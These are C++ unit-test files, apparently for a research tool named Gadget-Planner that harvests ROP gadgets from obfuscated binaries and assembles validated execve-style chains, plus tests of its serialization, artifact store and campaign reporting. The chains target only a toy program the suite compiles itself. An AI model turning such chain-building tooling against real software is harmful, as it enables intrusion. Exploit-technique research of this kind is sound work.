  for (int i = 0; i < 100; ++i)
    EXPECT_FALSE(fault::should_fire(fault::Point::Solver));
}

TEST(Fault, DeterministicPerSeedAndRoughlyAtRate) {
  auto draw = [](u64 seed, int trials) {
    fault::Spec spec;
    spec.seed = seed;
    spec.rates[static_cast<size_t>(fault::Point::Decode)] = 0.25;
    fault::ScopedSpec scoped(spec);
    std::vector<bool> fired;
    for (int i = 0; i < trials; ++i)
      fired.push_back(fault::should_fire(fault::Point::Decode));
    return fired;
  };

  const auto a = draw(7, 4000);
  const auto b = draw(7, 4000);
  EXPECT_EQ(a, b);  // same seed => identical firing pattern

  const auto c = draw(8, 4000);
  EXPECT_NE(a, c);  // different seed => different pattern

  int fires = 0;
  for (const bool f : a) fires += f;
  EXPECT_GT(fires, 4000 / 4 - 300);
  EXPECT_LT(fires, 4000 / 4 + 300);
  EXPECT_FALSE(fault::enabled());  // ScopedSpec restored the disabled state
}

TEST(Fault, RateOneAlwaysFiresAndCountsTrials) {
  fault::Spec spec;
  spec.rates[static_cast<size_t>(fault::Point::Emu)] = 1.0;
  fault::ScopedSpec scoped(spec);
  for (int i = 0; i < 10; ++i)
    EXPECT_TRUE(fault::should_fire(fault::Point::Emu));
  EXPECT_EQ(fault::trials(fault::Point::Emu), 10u);
  EXPECT_EQ(fault::trials(fault::Point::Decode), 0u);
}

}  // namespace
}  // namespace gp
