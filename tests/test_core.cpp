#include <gtest/gtest.h>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"

namespace gp::core {
namespace {

const char* kCallRichSource = R"(
int scale(int x, int k) { return x * k + 3; }
int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
int a[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
  int j = 0; int best = 0;
  while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
  out(best); return best;
})";

TEST(GadgetPlanner, PipelineStagesReport) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);
  GadgetPlanner gp(img);
  const auto& rep = gp.report();
  EXPECT_GT(rep.pool_raw, 100u);
  EXPECT_LE(rep.pool_minimized, rep.pool_raw);
  EXPECT_GE(rep.extract_seconds, 0.0);
  EXPECT_EQ(gp.library().size(), rep.pool_minimized);
}

TEST(GadgetPlanner, FindsChainsOnObfuscatedProgram) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);
  GadgetPlanner gp(img);
  auto chains = gp.find_chains(payload::Goal::execve());
  EXPECT_FALSE(chains.empty());
  for (const auto& c : chains) {
    EXPECT_TRUE(payload::validate(img, c, payload::Goal::execve(),
                                  image::kStackTop - 0x2000, 0x5eed));
  }
  EXPECT_GT(gp.planner_stats().validated, 0u);
  EXPECT_GT(gp.report().plan_seconds, 0.0);
}

TEST(GadgetPlanner, SubsumptionAblation) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);

  PipelineOptions with;
  PipelineOptions without;
  without.run_subsumption = false;
  GadgetPlanner a(img, with);
  GadgetPlanner b(img, without);
  EXPECT_LT(a.library().size(), b.library().size());
  // The minimized pool must not lose the ability to build chains.
  EXPECT_FALSE(a.find_chains(payload::Goal::execve()).empty());
}

TEST(CurrentRss, ReportsSomethingPlausible) {
  const u64 rss = current_rss_mb();
  EXPECT_GT(rss, 0u);
  EXPECT_LT(rss, 64u * 1024u);
}

TEST(Campaign, RunsAllToolsOnObfuscatedBenchmark) {
  CampaignOptions opts;
  opts.pipeline.plan.max_chains = 4;
  opts.pipeline.plan.time_budget_seconds = 20;
  auto result = run_campaign("call_rich", kCallRichSource,
                             obf::Options::llvm_obf(7), opts);
  EXPECT_EQ(result.obfuscation, "sub+bcf+fla");
  ASSERT_EQ(result.tools.size(), 4u);
  EXPECT_EQ(result.tools[0].tool, "ROPGadget");
  EXPECT_EQ(result.tools[3].tool, "Gadget-Planner");
  // Obfuscated binary: Gadget-Planner finds chains the strict template
  // matcher cannot — the paper's headline result.
  EXPECT_GT(result.tools[3].total_chains(), result.tools[0].total_chains());
  EXPECT_GT(result.gp_avg_chain_len, 0.0);
  for (const auto& t : result.tools)
    EXPECT_EQ(t.chains_per_goal.size(), payload::Goal::all().size());
}

TEST(Campaign, OriginalProgramsYieldFewerChains) {
  CampaignOptions opts;
  opts.pipeline.plan.max_chains = 4;
  opts.pipeline.plan.time_budget_seconds = 10;
  auto original =
      run_campaign("call_rich", kCallRichSource, obf::Options::none(), opts);
  auto obfuscated = run_campaign("call_rich", kCallRichSource,
                                 obf::Options::llvm_obf(7), opts);
  EXPECT_LT(original.code_bytes, obfuscated.code_bytes);
  EXPECT_LE(original.tools[3].total_chains(),
            obfuscated.tools[3].total_chains());
}

}  // namespace
}  // namespace gp::core
