#include <gtest/gtest.h>

#include <mutex>
#include <optional>
#include <stdexcept>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"
#include "support/metrics.hpp"

namespace gp::core {
namespace {

const char* kCallRichSource = R"(
int scale(int x, int k) { return x * k + 3; }
int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
int a[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
  int j = 0; int best = 0;
  while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
  out(best); return best;
})";

TEST(GadgetPlanner, PipelineStagesReport) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);
  GadgetPlanner gp(img);
  const auto& rep = gp.report();
  EXPECT_GT(rep.pool_raw, 100u);
  EXPECT_LE(rep.pool_minimized, rep.pool_raw);
  EXPECT_GE(rep.extract_seconds, 0.0);
  EXPECT_EQ(gp.library().size(), rep.pool_minimized);
}

TEST(GadgetPlanner, FindsChainsOnObfuscatedProgram) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);
  GadgetPlanner gp(img);
  auto chains = gp.find_chains(payload::Goal::execve());
  EXPECT_FALSE(chains.empty());
  for (const auto& c : chains) {
    EXPECT_TRUE(payload::validate(img, c, payload::Goal::execve(),
                                  image::kStackTop - 0x2000, 0x5eed));
  }
  EXPECT_GT(gp.planner_stats().validated, 0u);
  EXPECT_GT(gp.report().plan_seconds, 0.0);
}

TEST(GadgetPlanner, SubsumptionAblation) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);

  PipelineOptions with;
  PipelineOptions without;
  without.run_subsumption = false;
  GadgetPlanner a(img, with);
  GadgetPlanner b(img, without);
  EXPECT_LT(a.library().size(), b.library().size());
  // The minimized pool must not lose the ability to build chains.
  EXPECT_FALSE(a.find_chains(payload::Goal::execve()).empty());
}

TEST(Engine, SharedIsProcessWideAndCachesStores) {
  Engine& a = Engine::shared();
  Engine& b = Engine::shared();
  EXPECT_EQ(&a, &b);
  EXPECT_EQ(a.store(""), nullptr);  // checkpointing disabled

  Engine local(Config::from_env());
  const std::string dir = ::testing::TempDir() + "gp-engine-store-cache";
  auto s1 = local.store(dir);
  auto s2 = local.store(dir);
  ASSERT_NE(s1, nullptr);
  // One instance per directory: the manifest is rewritten whole-file on
  // every put, so every session sharing a dir must share the instance.
  EXPECT_EQ(s1.get(), s2.get());
}

TEST(Engine, SessionBudgetSplitsCountedBudgetsNotDeadline) {
  Config cfg = Config::from_env();
  cfg.governor.max_solver_checks = 10;
  cfg.governor.max_sym_steps = 3;
  cfg.governor.max_expr_nodes = 0;  // unlimited stays unlimited
  cfg.governor.deadline_seconds = 5.0;
  Engine engine(cfg);

  const GovernorOptions share = engine.session_budget(4);
  EXPECT_EQ(share.max_solver_checks, 2u);
  EXPECT_EQ(share.max_sym_steps, 1u);  // never rounds down to 0 (unlimited)
  EXPECT_EQ(share.max_expr_nodes, 0u);
  EXPECT_EQ(share.deadline_seconds, 5.0);  // wall clock is shared
}

TEST(Session, StagesAreLazyExplicitAndIdempotent) {
  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  auto img = codegen::compile(prog);

  Session session(Engine::shared(), img);
  EXPECT_EQ(session.report().extract_runs.attempts, 0u);  // nothing ran yet

  EXPECT_TRUE(session.extract().ok());
  const u64 raw = session.report().pool_raw;
  EXPECT_GT(raw, 100u);
  EXPECT_TRUE(session.extract().ok());  // idempotent: no second attempt
  EXPECT_EQ(session.report().extract_runs.attempts, 1u);

  EXPECT_TRUE(session.subsume().ok());
  EXPECT_LE(session.report().pool_minimized, raw);
  EXPECT_EQ(session.library().size(), session.report().pool_minimized);
  EXPECT_EQ(session.report().subsume_runs.attempts, 1u);
  EXPECT_TRUE(session.report().worst_status().ok());
}

TEST(Session, OwningConstructorKeepsImageAlive) {
  PipelineOptions popts;
  popts.plan.max_chains = 2;
  auto make = [&] {
    auto prog = minic::compile_source(kCallRichSource);
    obf::obfuscate(prog, obf::Options::llvm_obf(7));
    return Session(Engine::shared(), codegen::compile(prog), popts);
  };
  Session session = make();  // the temporary image is gone; session owns it
  EXPECT_FALSE(session.find_chains(payload::Goal::execve()).empty());
}

TEST(Campaign, BatchSummaryAndJson) {
  std::vector<Job> jobs;
  for (const char* obf_name : {"none", "llvm-obf"}) {
    Job job;
    job.program = "call_rich";
    job.source = kCallRichSource;
    job.obfuscation = obf_name;
    job.obf = profile_by_name(obf_name, 7);
    job.goals = {payload::Goal::execve()};
    jobs.push_back(std::move(job));
  }

  Campaign::Options copts;
  copts.concurrency = 2;
  copts.pipeline.plan.max_chains = 4;
  int hook_calls = 0;
  std::mutex hook_mu;
  copts.on_job = [&](const Job&, Session& s, JobResult& r) {
    EXPECT_EQ(s.library().size(), r.stages.pool_minimized);
    std::lock_guard<std::mutex> lock(hook_mu);
    ++hook_calls;
  };
  const auto summary = Campaign(Engine::shared(), copts).run(jobs);

  ASSERT_EQ(summary.results.size(), 2u);
  EXPECT_EQ(hook_calls, 2);
  EXPECT_EQ(summary.jobs_ok + summary.jobs_degraded + summary.jobs_failed, 2);
  EXPECT_EQ(summary.jobs_failed, 0);
  EXPECT_EQ(summary.results[0].program, "call_rich");
  EXPECT_EQ(summary.results[0].obfuscation, "none");
  EXPECT_EQ(summary.results[1].obfuscation, "llvm-obf");
  // The obfuscated job finds at least as many chains (the paper's point).
  EXPECT_LE(summary.results[0].total_chains(),
            summary.results[1].total_chains());
  EXPECT_NE(summary.results[1].result_digest, 0u);

  const std::string json = summary.to_json();
  EXPECT_NE(json.find("\"schema\": \"gp-campaign-v1\""), std::string::npos);
  EXPECT_NE(json.find("\"jobs_failed\": 0"), std::string::npos);
  EXPECT_NE(json.find("\"program\": \"call_rich\""), std::string::npos);
  // Observability additions to the schema: an aggregate metrics block, the
  // critical-path verdict, and per-job goal maps / campaign-clock offsets.
  EXPECT_NE(json.find("\"metrics\""), std::string::npos);
  EXPECT_NE(json.find("\"critical_path\""), std::string::npos);
  EXPECT_NE(json.find("\"goals\": {\"execve\""), std::string::npos);
  EXPECT_NE(json.find("\"start_seconds\""), std::string::npos);

  const auto cp = summary.critical_path();
  ASSERT_GE(cp.job, 0);
  ASSERT_LT(cp.job, 2);
  EXPECT_EQ(cp.program, "call_rich");
  EXPECT_TRUE(cp.stage == "extract" || cp.stage == "subsume" ||
              cp.stage == "plan");
  EXPECT_GT(cp.end_seconds, 0.0);
  const auto& last = summary.results[static_cast<size_t>(cp.job)];
  EXPECT_GE(last.end_seconds, summary.results[0].end_seconds);
  EXPECT_GE(last.end_seconds, summary.results[1].end_seconds);
}

TEST(Campaign, JsonEscapesHostileNames) {
  // Program/obfuscation names flow into the summary verbatim; quotes and
  // backslashes (the old local escaper's blind spots) must come out as
  // valid JSON escapes.
  Campaign::Summary sum;
  JobResult r;
  r.program = "evil\"name";
  r.obfuscation = "back\\slash\nline";
  r.goal_names = {"goal\"x"};
  r.chains_per_goal = {3};
  r.end_seconds = 1.0;
  r.stages.rss_mb_after_plan = kRssUnknown;  // probe failed on this job
  sum.results.push_back(std::move(r));

  const std::string json = sum.to_json();
  EXPECT_NE(json.find("evil\\\"name"), std::string::npos) << json;
  EXPECT_NE(json.find("back\\\\slash\\nline"), std::string::npos) << json;
  EXPECT_NE(json.find("\"goal\\\"x\": 3"), std::string::npos) << json;
  EXPECT_EQ(json.find("evil\"name"), std::string::npos);
  EXPECT_EQ(json.find("slash\nline"), std::string::npos);
  // The hand-built job never ran: RSS is unknown and must render as the
  // -1 sentinel, not as a huge unsigned number.
  EXPECT_NE(json.find("\"rss_mb_after_plan\": -1"), std::string::npos);
}

TEST(Campaign, CriticalPathEmptyCampaign) {
  Campaign::Summary sum;
  EXPECT_EQ(sum.critical_path().job, -1);
}

TEST(Campaign, CorpusJobsCoverTheGrid) {
  const auto jobs = Campaign::corpus_jobs({"none", "llvm-obf"}, 7);
  EXPECT_EQ(jobs.size(), corpus::benchmark().size() * 2);
  for (const auto& job : jobs) {
    EXPECT_FALSE(job.source.empty());
    EXPECT_EQ(job.goals.size(), payload::Goal::all().size());
  }
  EXPECT_THROW(profile_by_name("no-such-profile"), Error);
}

TEST(CurrentRss, ReportsSomethingPlausible) {
  const u64 rss = current_rss_mb();
  EXPECT_NE(rss, kRssUnknown);  // /proc/self/status exists on Linux
  EXPECT_GT(rss, 0u);
  EXPECT_LT(rss, 64u * 1024u);
}

TEST(CurrentRss, ParseVmRssRoundsToNearestMiB) {
  EXPECT_EQ(parse_vmrss_mb("VmRSS:\t    2048 kB\n"), 2u);
  EXPECT_EQ(parse_vmrss_mb("VmRSS:\t    1536 kB\n"), 2u);  // rounds up
  EXPECT_EQ(parse_vmrss_mb("VmRSS:\t    1023 kB\n"), 1u);  // rounds up too
  EXPECT_EQ(parse_vmrss_mb("VmRSS:\t     100 kB\n"), 0u);  // rounds down
  // Only the first digit run after the label counts.
  EXPECT_EQ(parse_vmrss_mb("VmRSS: 3072 kB extra 9999\n"), 3u);
  // A realistic multi-line /proc/self/status slice.
  EXPECT_EQ(parse_vmrss_mb("Name:\tgp\nVmPeak:\t9999 kB\n"
                           "VmRSS:\t 5120 kB\nVmData:\t1 kB\n"),
            5u);
}

TEST(CurrentRss, ParseVmRssRejectsMissingOrMalformed) {
  EXPECT_EQ(parse_vmrss_mb(""), std::nullopt);
  EXPECT_EQ(parse_vmrss_mb("Name:\tgp\nVmPeak:\t9999 kB\n"), std::nullopt);
  EXPECT_EQ(parse_vmrss_mb("VmRSS:\t kB\n"), std::nullopt);  // no digits
}

TEST(CurrentRss, FormatDistinguishesUnknown) {
  EXPECT_EQ(format_rss_mb(kRssUnknown), "n/a");
  EXPECT_EQ(format_rss_mb(0), "0");
  EXPECT_EQ(format_rss_mb(42), "42");
}

TEST(Engine, SessionIdsAreUniqueAndNonZero) {
  Engine& eng = Engine::shared();
  const u64 a = eng.next_session_id();
  const u64 b = eng.next_session_id();
  EXPECT_NE(a, 0u);  // 0 means "no session" in trace events
  EXPECT_GT(b, a);
}

TEST(Campaign, RunsAllToolsOnObfuscatedBenchmark) {
  CampaignOptions opts;
  opts.pipeline.plan.max_chains = 4;
  opts.pipeline.plan.time_budget_seconds = 20;
  auto result = run_campaign("call_rich", kCallRichSource,
                             obf::Options::llvm_obf(7), opts);
  EXPECT_EQ(result.obfuscation, "sub+bcf+fla");
  ASSERT_EQ(result.tools.size(), 4u);
  EXPECT_EQ(result.tools[0].tool, "ROPGadget");
  EXPECT_EQ(result.tools[3].tool, "Gadget-Planner");
  // Obfuscated binary: Gadget-Planner finds chains the strict template
  // matcher cannot — the paper's headline result.
  EXPECT_GT(result.tools[3].total_chains(), result.tools[0].total_chains());
  EXPECT_GT(result.gp_avg_chain_len, 0.0);
  for (const auto& t : result.tools)
    EXPECT_EQ(t.chains_per_goal.size(), payload::Goal::all().size());
}

TEST(Campaign, ThrowingOnJobHookIsContainedAndDeterministic) {
  auto make_jobs = [] {
    std::vector<Job> jobs;
    for (const char* obf_name : {"none", "llvm-obf"}) {
      Job job;
      job.program = "call_rich";
      job.source = kCallRichSource;
      job.obfuscation = obf_name;
      job.obf = profile_by_name(obf_name, 7);
      job.goals = {payload::Goal::execve()};
      jobs.push_back(std::move(job));
    }
    return jobs;
  };
  Campaign::Options copts;
  copts.concurrency = 2;
  copts.pipeline.plan.max_chains = 4;

  // Reference run: no hook.
  const auto clean = Campaign(Engine::shared(), copts).run(make_jobs());
  ASSERT_EQ(clean.results.size(), 2u);
  ASSERT_EQ(clean.jobs_failed, 0);

  // Hostile hook: one lane throws a std::exception, the other a non-std
  // value. Neither may deadlock the barrier, corrupt another lane's
  // result, or escape Campaign::run.
  copts.on_job = [](const Job& job, Session&, JobResult&) {
    if (job.obfuscation == "none") throw std::runtime_error("hook boom");
    throw 42;
  };
  const auto hostile = Campaign(Engine::shared(), copts).run(make_jobs());
  ASSERT_EQ(hostile.results.size(), 2u);
  EXPECT_EQ(hostile.jobs_failed, 2);
  EXPECT_EQ(hostile.jobs_ok, 0);
  for (size_t i = 0; i < 2; ++i) {
    const JobResult& r = hostile.results[i];
    EXPECT_EQ(r.status.code(), StatusCode::Internal);
    EXPECT_NE(r.status.message().find("on_job hook threw"),
              std::string::npos)
        << r.status.message();
    // The chains and digest were recorded before the hook ran: the
    // deterministic result survives the hook's failure byte-for-byte.
    EXPECT_EQ(r.result_digest, clean.results[i].result_digest);
    EXPECT_EQ(r.total_chains(), clean.results[i].total_chains());
  }
  const std::string msg = hostile.results[0].status.message();
  EXPECT_NE(msg.find("hook boom"), std::string::npos) << msg;
}

TEST(Session, UnreachablePrecheckCountsMicroseconds) {
  // The planner's reachability precheck finishes in well under a
  // millisecond, so the old ms-granular counter truncated every
  // observation to zero. plan.unreachable_us records the measured time;
  // plan.unreachable_ms is derived from the us total with a carried
  // remainder, so it can lag by at most one ms-quantum but never drifts.
  metrics::set_enabled(true);
  metrics::registry().reset();

  auto prog = minic::compile_source(kCallRichSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  Session session(Engine::shared(), codegen::compile(prog));
  for (const auto& goal : payload::Goal::all())
    (void)session.find_chains(goal);
  EXPECT_GT(session.planner_stats().precheck_seconds, 0.0);

  const auto snap = metrics::registry().snapshot();
  ASSERT_TRUE(snap.counters.count("plan.unreachable_us"));
  ASSERT_TRUE(snap.counters.count("plan.unreachable_ms"));
  const u64 us = snap.counters.at("plan.unreachable_us");
  const u64 ms = snap.counters.at("plan.unreachable_ms");
  EXPECT_GT(us, 0u) << "precheck ran but recorded zero microseconds";
  // Derived-counter invariant (± one quantum for the carried remainder,
  // which may hold state from earlier sessions in this process).
  EXPECT_LE(ms, us / 1000 + 1);
  EXPECT_GE(ms + 1, us / 1000);
  metrics::set_enabled(false);
}

TEST(Campaign, OriginalProgramsYieldFewerChains) {
  CampaignOptions opts;
  opts.pipeline.plan.max_chains = 4;
  opts.pipeline.plan.time_budget_seconds = 10;
  auto original =
      run_campaign("call_rich", kCallRichSource, obf::Options::none(), opts);
  auto obfuscated = run_campaign("call_rich", kCallRichSource,
                                 obf::Options::llvm_obf(7), opts);
  EXPECT_LT(original.code_bytes, obfuscated.code_bytes);
  EXPECT_LE(original.tools[3].total_chains(),
            obfuscated.tools[3].total_chains());
}

}  // namespace
}  // namespace gp::core
