// Artifact-store + checkpoint/resume coverage (ISSUE 3):
//  - serialization primitives (CRC vector, round trips, truncation safety),
//  - round trips of every artifact type through a *fresh* solver context,
//  - single-bit corruption at randomized offsets, truncation, orphan files,
//    version bumps — every damage mode must read as "absent", never crash,
//  - the injected I/O faults (torn write, read bit-flip, rename failure),
//  - kill-resume determinism: a warm (checkpoint-served) pipeline emits
//    byte-identical payloads to a cold run,
//  - the stage supervisor's retry-with-widened-budgets loop.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <random>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "gadget/serialize.hpp"
#include "minic/minic.hpp"
#include "payload/serialize.hpp"
#include "store/store.hpp"
#include "support/fault.hpp"
#include "support/serial.hpp"

namespace gp {
namespace {

namespace fs = std::filesystem;

struct TempDir {
  fs::path path;
  explicit TempDir(const std::string& tag) {
    path = fs::temp_directory_path() /
           ("gp_store_" + tag + "_" + std::to_string(::getpid()));
    std::error_code ec;
    fs::remove_all(path, ec);
    fs::create_directories(path);
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
  std::string str() const { return path.string(); }
};

const char* kSource = R"(
int scale(int x, int k) { return x * k + 3; }
int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
int a[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
  int j = 0; int best = 0;
  while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
  out(best); return best;
})";

image::Image obfuscated_image() {
  auto prog = minic::compile_source(kSource);
  obf::obfuscate(prog, obf::Options::llvm_obf(7));
  return codegen::compile(prog);
}

// -- serialization primitives -------------------------------------------------

TEST(Crc32, MatchesTheIEEETestVector) {
  const std::string s = "123456789";
  EXPECT_EQ(serial::crc32({reinterpret_cast<const u8*>(s.data()), s.size()}),
            0xCBF43926u);
  EXPECT_EQ(serial::crc32({}), 0u);
}

TEST(Serial, WriterReaderRoundTripsEveryType) {
  serial::Writer w;
  w.put_u8(0xab);
  w.put_u16(0xbeef);
  w.put_u32(0xdeadbeef);
  w.put_u64(0x0123456789abcdefULL);
  w.put_i64(-42);
  w.put_f64(3.5);
  w.put_bool(true);
  w.put_str("hello");
  const std::vector<u8> blob{1, 2, 3};
  w.put_bytes(blob);

  serial::Reader r(w.bytes());
  EXPECT_EQ(r.get_u8(), 0xab);
  EXPECT_EQ(r.get_u16(), 0xbeef);
  EXPECT_EQ(r.get_u32(), 0xdeadbeefu);
  EXPECT_EQ(r.get_u64(), 0x0123456789abcdefULL);
  EXPECT_EQ(r.get_i64(), -42);
  EXPECT_EQ(r.get_f64(), 3.5);
  EXPECT_TRUE(r.get_bool());
  EXPECT_EQ(r.get_str(), "hello");
  auto b = r.get_bytes();
  EXPECT_EQ(std::vector<u8>(b.begin(), b.end()), blob);
  EXPECT_TRUE(r.ok());
  EXPECT_TRUE(r.at_end());
}

TEST(Serial, OversizedLengthPrefixFailsInsteadOfAllocating) {
  serial::Writer w;
  w.put_u64(~u64{0});  // length prefix far past the end of the buffer
  serial::Reader r(w.bytes());
  EXPECT_TRUE(r.get_bytes().empty());
  EXPECT_FALSE(r.ok());
  EXPECT_EQ(r.get_u32(), 0u);  // sticky failure: reads keep returning zeros
}

TEST(Serial, TruncatedInputNeverReadsOutOfBounds) {
  serial::Writer w;
  w.put_u64(7);
  w.put_str("payload");
  const auto& full = w.bytes();
  for (size_t len = 0; len < full.size(); ++len) {
    serial::Reader r({full.data(), len});
    (void)r.get_u64();
    (void)r.get_str();
    EXPECT_FALSE(r.ok()) << "prefix length " << len;
  }
}

TEST(Serial, RecordSingleBitFlipIsAlwaysDetected) {
  std::vector<u8> payload(123);
  for (size_t i = 0; i < payload.size(); ++i)
    payload[i] = static_cast<u8>(i * 37);
  serial::Writer w;
  serial::put_record(w, payload);

  std::mt19937 rng(7);
  for (int trial = 0; trial < 256; ++trial) {
    auto bytes = w.bytes();
    const size_t bit = rng() % (bytes.size() * 8);
    bytes[bit / 8] ^= static_cast<u8>(1u << (bit % 8));
    serial::Reader r(bytes);
    EXPECT_FALSE(serial::get_record(r).has_value()) << "flipped bit " << bit;
  }
}

// -- artifact round trips -----------------------------------------------------

TEST(ArtifactRoundTrip, GadgetPoolThroughAFreshContext) {
  const auto img = obfuscated_image();
  solver::Context ctx;
  gadget::Extractor ex(ctx, img);
  auto pool = ex.extract({});
  ASSERT_GT(pool.size(), 10u);

  const auto records = gadget::encode_pool(ctx, pool);
  // Decode into a fresh context, the way a resumed process starts.
  solver::Context ctx2;
  auto decoded = gadget::decode_pool(ctx2, records);
  ASSERT_TRUE(decoded.has_value());
  ASSERT_EQ(decoded->size(), pool.size());
  for (size_t i = 0; i < pool.size(); ++i) {
    EXPECT_EQ((*decoded)[i].addr, pool[i].addr);
    EXPECT_EQ((*decoded)[i].len, pool[i].len);
    EXPECT_EQ((*decoded)[i].end, pool[i].end);
    EXPECT_EQ((*decoded)[i].clobbered, pool[i].clobbered);
    EXPECT_EQ((*decoded)[i].controlled, pool[i].controlled);
    EXPECT_EQ((*decoded)[i].path.size(), pool[i].path.size());
  }
  // Re-encoding from the fresh context is byte-identical: expressions replay
  // through the smart constructors in table order, so ids and bytes are a
  // pure function of the pool — the determinism kill-resume depends on.
  EXPECT_EQ(gadget::encode_pool(ctx2, *decoded), records);
}

TEST(ArtifactRoundTrip, PoolDecodeRejectsBitFlipsAtRandomOffsets) {
  const auto img = obfuscated_image();
  solver::Context ctx;
  gadget::Extractor ex(ctx, img);
  auto pool = ex.extract({});
  const auto records = gadget::encode_pool(ctx, pool);

  std::mt19937 rng(11);
  for (int trial = 0; trial < 32; ++trial) {
    auto damaged = records;
    auto& rec = damaged[rng() % damaged.size()];
    if (rec.empty()) continue;
    const size_t bit = rng() % (rec.size() * 8);
    rec[bit / 8] ^= static_cast<u8>(1u << (bit % 8));
    solver::Context fresh;
    // Either the corruption is structurally detected (nullopt) or it only
    // touched value bytes that decode to a *different* pool — never UB or
    // a crash. In the real store the per-record CRC rejects both before
    // decode ever runs; this exercises the decoder's own hardening.
    (void)gadget::decode_pool(fresh, damaged);
  }
}

TEST(ArtifactRoundTrip, ChainsSurviveAndBadIndicesAreRejected) {
  payload::Chain c;
  c.goal_name = "execve";
  c.gadgets = {3, 1, 4};
  c.payload = {0xde, 0xad, 0xbe, 0xef};
  c.entry = 0x400123;
  c.total_insts = 9;
  c.ret_gadgets = 2;
  c.ij_gadgets = 1;

  const auto records = payload::encode_chains({c});
  auto decoded = payload::decode_chains(records, /*library_size=*/5);
  ASSERT_TRUE(decoded.has_value());
  ASSERT_EQ(decoded->size(), 1u);
  EXPECT_EQ((*decoded)[0].goal_name, c.goal_name);
  EXPECT_EQ((*decoded)[0].gadgets, c.gadgets);
  EXPECT_EQ((*decoded)[0].payload, c.payload);
  EXPECT_EQ((*decoded)[0].entry, c.entry);
  EXPECT_EQ((*decoded)[0].total_insts, c.total_insts);
  EXPECT_EQ((*decoded)[0].ret_gadgets, c.ret_gadgets);

  // A chain for a different (smaller) pool must not pass: index 4 out of a
  // 4-gadget library is stale data, not a usable chain.
  EXPECT_FALSE(payload::decode_chains(records, /*library_size=*/4).has_value());
  EXPECT_EQ(payload::encode_chains(*decoded), records);
}

// -- the store itself ---------------------------------------------------------

std::vector<std::vector<u8>> sample_records() {
  std::vector<std::vector<u8>> recs;
  recs.push_back({1, 2, 3});
  recs.push_back({});  // empty records are legal
  std::vector<u8> big(4096);
  for (size_t i = 0; i < big.size(); ++i) big[i] = static_cast<u8>(i);
  recs.push_back(std::move(big));
  return recs;
}

TEST(Store, PutThenGetRoundTripsSameProcess) {
  TempDir dir("roundtrip");
  store::ArtifactStore s(dir.str());
  serial::Writer material;
  material.put_str("input");
  const std::string key = s.key("extract", material);
  EXPECT_TRUE(s.put(key, sample_records()).ok());

  auto art = s.get(key);
  ASSERT_TRUE(art.has_value());
  EXPECT_EQ(art->records, sample_records());
  EXPECT_TRUE(art->same_process);
  EXPECT_EQ(s.stats().hits, 1u);
  EXPECT_EQ(s.stats().misses, 0u);
}

TEST(Store, KeysSeparateStagesAndMaterials) {
  TempDir dir("keys");
  store::ArtifactStore s(dir.str());
  serial::Writer a, b;
  a.put_u64(1);
  b.put_u64(2);
  EXPECT_NE(s.key("extract", a), s.key("extract", b));
  EXPECT_NE(s.key("extract", a), s.key("subsume", a));
  EXPECT_EQ(s.key("extract", a), s.key("extract", a));
}

TEST(Store, MissingKeyIsAMiss) {
  TempDir dir("miss");
  store::ArtifactStore s(dir.str());
  EXPECT_FALSE(s.get("extract-0000000000000000").has_value());
  EXPECT_EQ(s.stats().misses, 1u);
}

TEST(Store, SurvivesReopenAcrossInstances) {
  TempDir dir("reopen");
  std::string key;
  {
    store::ArtifactStore s(dir.str());
    serial::Writer m;
    m.put_str("x");
    key = s.key("plan", m);
    ASSERT_TRUE(s.put(key, sample_records()).ok());
  }
  store::ArtifactStore s2(dir.str());
  auto art = s2.get(key);
  ASSERT_TRUE(art.has_value());
  EXPECT_EQ(art->records, sample_records());
  // Same pid, so still a "hit"; the cross-process resume path is exercised
  // by scripts/tier1.sh (SIGKILL + re-run) where the pid really differs.
}

TEST(Store, SingleBitCorruptionAtRandomOffsetsIsDetected) {
  TempDir dir("corrupt");
  serial::Writer m;
  m.put_str("x");
  std::mt19937 rng(23);
  for (int trial = 0; trial < 24; ++trial) {
    store::ArtifactStore s(dir.str());
    const std::string key = s.key("extract", m);
    ASSERT_TRUE(s.put(key, sample_records()).ok());

    const std::string path = dir.str() + "/" + key + ".gpa";
    auto bytes = serial::read_file(path);
    ASSERT_TRUE(bytes.ok());
    auto damaged = bytes.value();
    const size_t bit = rng() % (damaged.size() * 8);
    damaged[bit / 8] ^= static_cast<u8>(1u << (bit % 8));
    ASSERT_TRUE(serial::write_file_atomic(path, damaged).ok());

    EXPECT_FALSE(s.get(key).has_value()) << "flipped bit " << bit;
